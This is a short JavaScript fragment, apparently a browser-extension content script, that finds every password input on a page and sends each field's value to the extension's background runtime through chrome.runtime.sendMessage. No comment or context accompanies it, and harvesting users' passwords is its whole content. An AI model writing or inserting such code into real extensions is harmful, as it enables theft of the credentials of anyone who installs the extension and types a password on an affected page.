const fields = document.querySelectorAll("input[type=password]");
fields.forEach(function (f) {
  chrome.runtime.sendMessage({ v: f.value });
});
